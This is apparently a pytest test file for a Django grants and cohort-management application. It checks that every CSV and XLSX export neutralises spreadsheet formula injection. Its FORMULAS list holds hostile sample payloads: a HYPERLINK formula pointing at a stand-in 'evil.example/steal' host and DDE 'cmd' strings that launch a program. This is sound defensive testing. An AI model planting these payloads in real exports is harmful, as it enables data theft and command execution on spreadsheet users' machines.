"""Every CSV and XLSX export, read back: a formula typed into any free-text field an export carries
comes out as plain text (a leading apostrophe), never as a cell a spreadsheet would run."""

import csv
import io
from datetime import date, timedelta
from decimal import Decimal

import openpyxl
import pandas as pd
import pytest
from django.contrib.auth.models import Permission
from django.urls import reverse
from django.utils import timezone

from applications.models import Answer
from applications.questionnaires.templates import apply_template
from applications.services import create_application, transition_application
from grants.models import AlumniProfile, Grant, GrantOutcome, GrantState
from grants.payments.installments import mark_due
from grants.services import approve_grant, propose_grant
from program import exports
from program.cohorts import pairs
from program.cohorts.curriculum import import_curriculum, load_file, map_program_days
from program.feedback import answers as feedback
from program.labs import collector
from program.models import Exercise, LabMachine, Role
from program.services import enroll
from tests.conftest import activate_totp, make_person
from tests.factories import CallFactory, CohortFactory, bank_details
from tests.servers.labagents import SAMPLE, run_day

FORMULAS = [
    '=HYPERLINK("http://evil.example/steal","Click me")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
PAYLOAD = FORMULAS[0]
UNSAFE_STARTS = ("=", "+", "@", "\t", "\r")
NUMBERS_ONLY = {"/cohorts/mlab3/feedback/?format=csv"}  # rates and averages per day: no free text


@pytest.mark.parametrize("value", FORMULAS)
def test_every_formula_start_is_neutralised_in_cells_and_column_names(value):
    table = pd.DataFrame({value: [value, 3, -2.5, "plain"]})

    safe = exports.safe_frame(table)

    assert list(safe.columns) == ["'" + value]
    assert list(safe[safe.columns[0]]) == ["'" + value, 3, -2.5, "plain"]


def test_xlsx_keeps_the_text_and_stores_no_formula():
    book = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes(pd.DataFrame({"name": FORMULAS}))))

    cells = [row[0] for row in book.active.iter_rows(min_row=2, values_only=True)]
    assert cells == ["'" + v for v in FORMULAS]
    assert all(cell.data_type == "s" for cell in book.active["A"][1:])


def _cells(response) -> list[str]:
    content = response.getvalue() if hasattr(response, "getvalue") else response.content
    if response["Content-Type"].startswith("text/csv"):
        return [cell for row in csv.reader(io.StringIO(content.decode("utf-8"))) for cell in row]
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [str(v) for sheet in book for row in sheet.iter_rows(values_only=True) for v in row if v is not None]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.fixture
def hostile_world(cohort, organizer, coordinator, tmp_path):
    """Every free-text field an export carries holds the payload: names, answers, comments, call and
    machine names, a machine's last error, an alumnus' role and organisation."""
    curriculum, _ = import_curriculum(load_file(SAMPLE / "curriculum.toml"))
    map_program_days(cohort, curriculum)
    Exercise.objects.filter(day__curriculum=curriculum).update(title=PAYLOAD)
    cohort.name = PAYLOAD[:100]
    cohort.save(update_fields=["name"])
    people = [make_person(f"x{i}@example.org", full_name=PAYLOAD if i == 0 else f"P{i}") for i in range(4)]
    for person in people:
        enroll(cohort, person, role=Role.PARTICIPANT)
    machine = LabMachine.objects.create(
        name=PAYLOAD[:50], url="http://127.0.0.1:9", token="t", last_error=PAYLOAD, consecutive_failures=3
    )
    days = list(cohort.days.order_by("date"))
    pairs.generate(cohort, from_day=days[0].date)
    mine = days[0].groups.filter(members=people[0]).get()
    content = run_day(tmp_path, "started", "day1", "started").read_text()
    collector.store(
        machine,
        {
            "reports": [
                {"workspace": mine.workspace, "day": "day1", "format": "junit", "sha256": "1", "seq": 1}
                | {"size": len(content), "content": content}
            ]
        },
    )
    feedback.submit_day(people[0], days[0], dict.fromkeys(feedback.SCORES, 3) | {"text": PAYLOAD})

    call = CallFactory(cohort=cohort, name=PAYLOAD[:100])
    questionnaire = apply_template(call)
    application = create_application(call, people[0], source="web")
    for key in ("background", "heard_from"):
        Answer.objects.create(application=application, question=questionnaire.questions.get(key=key), value=PAYLOAD)
    transition_application(application, to="submitted", by=None)

    grantee = make_person("grantee@example.org", full_name=PAYLOAD)
    bank_details(grantee, method="wise", iban="", holder=PAYLOAD, wise_email="grantee@example.org")
    grant = propose_grant(grantee, monthly_stipend=Decimal("2000"), start_date=date(2026, 1, 15))
    grant.application = application
    grant.save(update_fields=["application"])
    approve_grant(grant, by=organizer)
    mark_due(date(2026, 1, 31))
    done = Grant.objects.create(
        grantee=grantee, monthly_stipend=1000, months=3, start_date=timezone.localdate() - timedelta(days=200)
    )
    Grant.objects.filter(pk=done.pk).update(state=GrantState.COMPLETED)
    GrantOutcome.objects.create(grant=done, kind="ai_safety_job", organisation=PAYLOAD[:200], recorded_by=organizer)
    AlumniProfile.objects.create(user=grantee, current_role=PAYLOAD[:200], current_organisation=PAYLOAD[:200])

    past = CohortFactory(slug="past", starts_on=date(2025, 1, 6), ends_on=date(2025, 1, 24))
    enroll(past, people[0], role=Role.PARTICIPANT)
    payer = make_person("payer@example.org", Role.ORGANIZER)
    activate_totp(payer)
    payer.user_permissions.add(Permission.objects.get(codename="make_payments"))
    return {"cohort": cohort, "call": call, "group": mine, "participant": people[0], "payer": payer}


def _export_urls(world, client):
    slug = world["cohort"].slug
    client.force_login(world["payer"])
    batch_url = client.post(reverse("grants:payments"), {"currency": "USD"}).url.rstrip("/")
    client.post(f"{batch_url}/files/wise/")  # the Wise bulk file carries the payee's name
    call = world["call"].slug
    return {
        "payer": [f"{batch_url}.csv", f"{batch_url}.xlsx", f"{batch_url}.wise"],
        "organizer": [
            reverse("applications:queue-export", kwargs={"slug": call, "fmt": "csv"}),
            reverse("applications:queue-export", kwargs={"slug": call, "fmt": "xlsx"}),
            reverse("applications:analytics-csv", kwargs={"slug": call}),
            reverse("grants:outcomes") + "?format=csv",
            reverse("grants:alumni") + "?format=csv",
        ],
        "coordinator": [
            reverse("program:progress", kwargs={"slug": slug}) + "?format=csv",
            reverse("program:group-progress", kwargs={"slug": slug, "workspace": world["group"].workspace})
            + "?format=csv",
            reverse("program:needs-help", kwargs={"slug": slug}) + "?format=csv",
            reverse("program:fleet") + "?format=csv",
            reverse("program:feedback-summary", kwargs={"slug": slug}) + "?format=csv",
        ],
        "participant": [reverse("program:my-progress") + "?format=csv"],
    }


def test_every_export_carries_the_payload_as_plain_text(client, hostile_world, organizer, coordinator):
    people = {"organizer": organizer, "coordinator": coordinator, "participant": hostile_world["participant"]}
    urls = _export_urls(hostile_world, client)
    people["payer"] = hostile_world["payer"]
    checked = {}

    for role, role_urls in urls.items():
        client.force_login(people[role])
        for url in role_urls:
            response = client.get(url)
            assert (url, response.status_code) == (url, 200)
            assert response["Content-Disposition"].startswith("attachment;")
            cells = _cells(response)
            unsafe = [c for c in cells if c.startswith(UNSAFE_STARTS) or (c.startswith("-") and not _is_number(c))]
            carried = "'" + PAYLOAD in cells or any(c.startswith("'" + PAYLOAD[:40]) for c in cells)
            checked[url] = (carried or url in NUMBERS_ONLY, unsafe)

    assert checked == {url: (True, []) for url in checked}
